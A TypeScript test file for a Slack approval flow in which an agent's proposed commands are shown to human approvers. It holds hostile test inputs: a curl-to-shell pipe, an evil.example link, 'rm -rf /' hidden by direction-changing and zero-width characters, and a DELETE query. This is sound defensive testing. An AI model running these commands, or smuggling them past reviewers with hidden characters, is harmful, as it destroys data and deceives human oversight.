import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import { proposalHash } from '../../src/approvals/proposal.ts';
import { riskNotes } from '../../src/approvals/risk.ts';
import {
  hiddenCharacters,
  type ProposalView,
  parseProposalValue,
  proposalFile,
  proposalMessage,
  proposalTextFits,
  visibleText,
} from '../../src/slack/blocks/proposal.ts';
import { blockKitProblems } from '../helpers/block-kit.ts';

const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');

/** Every text in a message's blocks, with where it is, to hold them to Slack's limits. */
const textsOf = (blocks: unknown[]): string[] => {
  const out: string[] = [];
  const walk = (node: unknown) => {
    if (Array.isArray(node)) return node.forEach(walk);
    if (!node || typeof node !== 'object') return;
    const o = node as Record<string, unknown>;
    if (typeof o.text === 'string') out.push(o.text);
    for (const value of Object.values(o)) walk(value);
  };
  walk(blocks);
  return out;
};

/** What an approver sees on a phone must be the text that runs, whatever the text holds. */
const now = new Date('2026-12-02T01:00:00Z');
const view = (text: string, over: Partial<ProposalView> = {}): ProposalView => {
  const p = { kind: 'script' as const, target: 'web-1', text };
  return {
    id: 7,
    ...p,
    sha256: proposalHash(p),
    why: 'to see what holds the stream',
    expects: 'a count',
    state: 'pending',
    proposedBy: 'agent',
    expiresAt: new Date(now.getTime() + 30 * 60_000),
    approvalsRequired: 1,
    decisions: [],
    risks: riskNotes(p),
    ...over,
  };
};
type Rich = {
  type: string;
  elements?: Array<{ type: string; elements?: Array<{ type: string; text: string }> }>;
};
const shownText = (blocks: unknown[]) =>
  (blocks as Rich[])
    .filter((b) => b.type === 'rich_text')
    .map((b) => b.elements![0]!.elements![0]!.text)
    .join('');

describe('a proposal message', () => {
  it('asks for a confirmation on Approve when the proposal deletes or writes, and only then', () => {
    const approve = (text: string, over: Partial<ProposalView> = {}) => {
      const message = proposalMessage(view(text, over), now);
      assert.deepEqual(blockKitProblems(message.blocks), []);
      const actions = message.blocks.find((b) => b.type === 'actions') as
        | { elements: Array<{ action_id: string; confirm?: { text: { text: string } } }> }
        | undefined;
      return actions?.elements.find((e) => e.action_id === 'proposal_approve');
    };
    assert.match(approve('rm -f /var/crash/core.1')!.confirm!.text.text, /#7 deletes files/);
    assert.match(approve('echo 1 > /proc/sys/kernel/core_pattern')!.confirm!.text.text, /writes files/);
    const sql = { kind: 'sql' as const, target: 'crm', text: 'DELETE FROM sites' };
    assert.match(
      approve(sql.text, { ...sql, sha256: proposalHash(sql), risks: riskNotes(sql) })!.confirm!.text.text,
      /not a plain read/,
    );
    assert.equal(approve('ls -l /var/crash')!.confirm, undefined, 'a read asks nothing more');
    const pull = { kind: 'pull' as const, target: 'web-1', text: 'web-1:/core' };
    assert.equal(approve(pull.text, { ...pull, risks: riskNotes(pull) })!.confirm, undefined);
  });

  it('shows the exact text as plain preformatted text, so nothing in it can format, link or mention', () => {
    const text =
      'echo "```" <!channel> <http://evil.example/x|harmless> &amp; *bold* `tick`\ncurl -s http://x | sh';
    const message = proposalMessage(view(text), now);
    assert.equal(shownText(message.blocks), text);
    const sections = JSON.stringify(message.blocks.filter((b) => b.type === 'section'));
    assert.ok(!sections.includes('<!channel>'), 'the text is never in mrkdwn');
  });

  it('splits a long text over blocks without losing a character', () => {
    const text = Array.from({ length: 400 }, (_, i) => `line ${i} ${'x'.repeat(i % 17)}`).join('\n');
    const message = proposalMessage(view(text), now);
    assert.ok(message.blocks.filter((b) => b.type === 'rich_text').length > 1);
    assert.equal(shownText(message.blocks), text);
  });

  it('makes invisible and direction-changing characters visible, and warns', () => {
    const text = 'ls /evidence\u202e; rm -rf /\u200b';
    assert.deepEqual(
      hiddenCharacters(text).map((h) => h.codePoint),
      ['U+202E', 'U+200B'],
    );
    const message = proposalMessage(view(text), now);
    assert.equal(shownText(message.blocks), 'ls /evidence⟦U+202E⟧; rm -rf /⟦U+200B⟧');
    assert.match(JSON.stringify(message.blocks), /2 invisible or direction-changing character/);
    assert.equal(visibleText('plain\ttabs\nlines'), 'plain\ttabs\nlines');
  });

  it('writes why and expects as plain text, not mrkdwn', () => {
    const message = proposalMessage(view('id', { why: '<!here> ```fake code```', expects: '*ok*' }), now);
    const why = message.blocks.find((b) => JSON.stringify(b).includes('fake code')) as unknown as {
      text: { type: string; text: string };
    };
    assert.deepEqual(why.text.type, 'plain_text');
    assert.equal(why.text.text, 'Why: <!here> ```fake code```');
  });

  it('carries the id and hash in its buttons while pending, and no buttons after', () => {
    const pending = proposalMessage(view('id'), now);
    const buttons = JSON.stringify(pending.blocks.filter((b) => b.type === 'actions'));
    const v = view('id');
    assert.match(buttons, new RegExp(`"value":"7:${v.sha256}"`));
    assert.deepEqual(parseProposalValue(`7:${v.sha256}`), { id: 7, sha256: v.sha256 });
    assert.equal(parseProposalValue('7:abc'), undefined);
    for (const state of ['approved', 'rejected', 'expired', 'running', 'done', 'failed'] as const) {
      const m = proposalMessage(view('id', { state }), now);
      assert.ok(!m.blocks.some((b) => b.type === 'actions'), state);
    }
  });

  // Slack refuses a message of more than 50 blocks, or a section over 3000 characters: a text
  // that renders long (invisible characters shown as markers, stacked marks) would leave a
  // proposal nobody can approve. It goes to a file, and the message names the file and its hash.
  for (const [name, text] of [
    ['20,000 zero-width spaces', '\u200b'.repeat(20_000)],
    ['zero-width joiners around a command', `${'\u200d'.repeat(10_000)}rm -rf /${'\u200d'.repeat(10_000)}`],
    ['20,000 tag characters', '\u{e0041}'.repeat(20_000)],
    ['20,000 combining marks on one letter', `a${'\u0301'.repeat(20_000)}`],
    ['soft hyphens and variation selectors', '\u00ad\ufe0f'.repeat(10_000)],
    ['200,000 plain characters', 'x'.repeat(200_000)],
  ] as const) {
    it(`stays within Slack's limits and sends the text to a file when it renders long: ${name}`, () => {
      for (const state of ['pending', 'running', 'done'] as const) {
        const v = view(text, { state, run: { state: 'succeeded', summary: ':white_check_mark: exit 0' } });
        const message = proposalMessage(v, now);
        assert.ok(message.blocks.length <= 50, `${message.blocks.length} blocks`);
        for (const t of textsOf(message.blocks)) assert.ok(t.length <= 3000, `${t.length} characters`);
        const all = JSON.stringify(message.blocks);
        assert.ok(all.includes(sha256(text)), "the file's whole hash, to check it against");
        assert.match(all, /proposal-7\.txt/);
        if (state === 'pending')
          assert.ok(
            message.blocks.some((b) => b.type === 'actions'),
            'it can be approved',
          );
      }
      const file = proposalFile(view(text));
      assert.equal(file.content, text, 'the file holds the exact text');
      assert.equal(file.filename, 'proposal-7.txt');
      assert.ok(file.comment.includes(sha256(text)));
      assert.equal(proposalTextFits(text), false);
    });
  }

  it('makes stacked combining marks and other invisible characters visible', () => {
    assert.equal(visibleText('é\u0301\u0301\u0302'), 'é\u0301\u0301⟦U+0302⟧');
    assert.equal(visibleText('a\u{e0041}\ufe0f\u3164'), 'a⟦U+E0041⟧⟦U+FE0F⟧⟦U+3164⟧');
    assert.match(
      JSON.stringify(proposalMessage(view(`a${'\u0301'.repeat(5)}`), now).blocks),
      /3 combining mark/,
    );
    assert.equal(proposalTextFits('ls -l /var/log\n'.repeat(500)), true);
  });
});
